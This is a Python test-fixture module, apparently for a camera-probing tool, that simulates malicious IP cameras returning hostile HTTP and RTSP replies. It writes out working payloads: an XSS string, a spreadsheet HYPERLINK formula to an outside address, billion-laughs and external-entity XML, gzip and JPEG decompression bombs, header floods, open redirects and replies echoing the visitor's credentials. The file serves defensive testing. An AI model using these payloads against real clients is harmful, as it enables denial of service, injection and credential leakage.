"""Devices that mean harm: what they send in place of, or besides, an honest reply. Pure bytes.

`to` is where a device would like its visitor to go: an address of somebody else.
"""

from __future__ import annotations

import gzip
import re
import struct
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache

from camfleet.message import Request
from camkeeper.model.probing import Rung

MARKUP = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://203.0.113.7/","x")'
REALM = "h"
BIDI = "\u202egnp.\u2066\u0007\u001b[2J"
_URI = re.compile(rb"(?:https?|rtsp)://[^/<\s\"]+(?=[^<>]*</[\w:]*(?:Uri|XAddr)>)")
_NAME = re.compile(rb"(<[\w:]*(?:Manufacturer|Model|FirmwareVersion|SerialNumber)>)[^<]*(?=<)")
_SERIAL = re.compile(rb"(<[\w:]*SerialNumber>)[^<]*(?=<)")


@dataclass(frozen=True, slots=True, kw_only=True)
class Asked:
    """One request, the honest bytes that would answer it, and where the device would rather have its visitor."""

    request: Request
    honest: bytes
    to: str


def _http(body: bytes, *, status: str = "200 OK", kind: str = "application/soap+xml", fields: str = "") -> bytes:
    head = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{fields}\r\n"
    return head.encode("latin-1") + body


def _with_body(honest: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """Change the body of a reply and tell its length anew."""
    head, _, body = honest.partition(b"\r\n\r\n")
    changed = change(body)
    return re.sub(rb"(?i)(content-length:) *\d+", rb"\1 %d" % len(changed), head) + b"\r\n\r\n" + changed


def _redirect(asked: Asked) -> bytes:
    if asked.request.is_rtsp:
        return f"RTSP/1.0 302 Moved\r\nCSeq: {asked.request.cseq}\r\nLocation: rtsp://{asked.to}/\r\n\r\n".encode()
    where = f"Location: http://{asked.to}/\r\nRefresh: 0; url=http://{asked.to}/\r\nSet-Cookie: a=b; Domain=.0.0.1\r\n"
    return _http(b"", status="307 Temporary Redirect", fields=where)


def _domain(asked: Asked) -> bytes:
    if b"GetSystemDateAndTime" in asked.request.body:
        return asked.honest
    challenge = f'WWW-Authenticate: Digest realm="{REALM}", nonce="n", qop="auth", domain="http://{asked.to}/ /"\r\n'
    if asked.request.is_rtsp:
        return f"RTSP/1.0 401 Unauthorized\r\nCSeq: {asked.request.cseq}\r\n{challenge}\r\n".encode()
    return _http(b"", status="401 Unauthorized", fields=challenge)


def _foreign(asked: Asked) -> bytes:
    to = asked.to.encode()
    return _with_body(asked.honest, lambda body: _URI.sub(rb"http://u:p@" + to, body))


def _names(asked: Asked) -> bytes:
    text = f"{MARKUP}{FORMULA}{BIDI}".replace("&", "&amp;").replace("<", "&lt;").encode("utf-8")
    return _with_body(asked.honest, lambda body: _NAME.sub(lambda found: found[1] + text, body))


def _formula(asked: Asked) -> bytes:
    text = FORMULA.replace('"', "&quot;").encode()
    return _with_body(asked.honest, lambda body: _NAME.sub(lambda found: found[1] + text, body))


def _serial(asked: Asked) -> bytes:
    return _with_body(asked.honest, lambda body: _SERIAL.sub(lambda found: found[1] + b"9" * 65_536, body))


def _echo(asked: Asked) -> bytes:
    """Say back what the visitor signed with, wherever a name belongs."""
    said = (asked.request.authorization.encode() + asked.request.body[:2000]).hex().encode()
    words = b"password=" + re.sub(rb"[<>&]", b" ", asked.request.body[:600]) + said[:600]
    return _with_body(asked.honest, lambda body: _NAME.sub(lambda found: found[1] + words, body))


@lru_cache(maxsize=1)
def _zeros() -> bytes:
    return gzip.compress(bytes(100 << 20), 9)


def _gzip(_asked: Asked) -> bytes:
    return _http(_zeros(), fields="Content-Encoding: gzip\r\n")


def _laughs(_asked: Asked) -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha" * 50}">' for n in range(9))
    return _http(f"<!DOCTYPE x [{entities}]><x>&e8;</x>".encode())


def _flat(_asked: Asked) -> bytes:
    return _http(b"<a>" + b"<b/>" * 4_000_000)


def _outside(asked: Asked) -> bytes:
    return _http(f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{asked.to}/e">%e;]><x>&e;</x>'.encode())


@lru_cache(maxsize=1)
def _bomb() -> bytes:
    """632 bytes that ask a decoder for 65500x65500 pixels, progressive."""

    def segment(marker: int, body: bytes) -> bytes:
        return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body

    frame = struct.pack(">BHHB", 8, 65_500, 65_500, 3) + bytes((1, 17, 0, 2, 17, 0, 3, 17, 0))
    head = b"\xff\xd8" + segment(0xDB, b"\0" + b"\x10" * 64) + segment(0xC2, frame)
    head += segment(0xDA, bytes((3, 1, 0, 2, 0, 3, 0, 0, 0, 0)))
    return head + bytes(630 - len(head)) + b"\xff\xd9"


def _picture(asked: Asked) -> bytes:
    is_picture = asked.request.method == "GET" and b"image/jpeg" in asked.honest[:400]
    return _http(_bomb(), kind="image/jpeg") if is_picture else asked.honest


def _headers(_asked: Asked) -> bytes:
    return b"HTTP/1.1 200 OK\r\n" + b"X-Flood: y\r\n" * 200_000


def _chunks(_asked: Asked) -> bytes:
    return b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n-5\r\nhello\r\nffffffffffffffffff\r\n"


def _garbage(asked: Asked) -> bytes:
    if not asked.request.is_rtsp:
        return asked.honest
    return b"$\x00\xff\xff" + bytes(range(256)) * 64 + b"RTSP/9.9 -1 \x00\r\nContent-Length: -1\r\n\r\n"


def _as_it_is(asked: Asked) -> bytes:
    return asked.honest


@dataclass(frozen=True, slots=True, kw_only=True)
class Trick:
    """One way to do harm; `spoils` are the rungs that an honest observer finds wanting."""

    says: Callable[[Asked], bytes]
    spoils: frozenset[Rung] = frozenset()
    drips: bool = False
    """Sent a byte at a time, and never to its end."""


_TIME = frozenset({Rung.TIME})
TRICKS: dict[str, Trick] = {
    "redirect": Trick(says=_redirect, spoils=_TIME),
    "digest_domain": Trick(says=_domain, spoils=frozenset({Rung.AUTH})),
    "foreign_uris": Trick(says=_foreign),
    "entities": Trick(says=_laughs, spoils=_TIME),
    "outside_entity": Trick(says=_outside, spoils=_TIME),
    "flat_xml": Trick(says=_flat, spoils=_TIME),
    "gzip_bomb": Trick(says=_gzip, spoils=_TIME),
    "picture_bomb": Trick(says=_picture, spoils=frozenset({Rung.SNAPSHOT})),
    "drip": Trick(says=_as_it_is, spoils=_TIME, drips=True),
    "header_flood": Trick(says=_headers, spoils=_TIME),
    "bad_chunks": Trick(says=_chunks, spoils=_TIME),
    "rtsp_garbage": Trick(says=_garbage, spoils=frozenset({Rung.STREAM})),
    "names": Trick(says=_names),
    "formulas": Trick(says=_formula),
    "long_serial": Trick(says=_serial),
    "echo": Trick(says=_echo),
}
"""By the name that `how` gives them."""
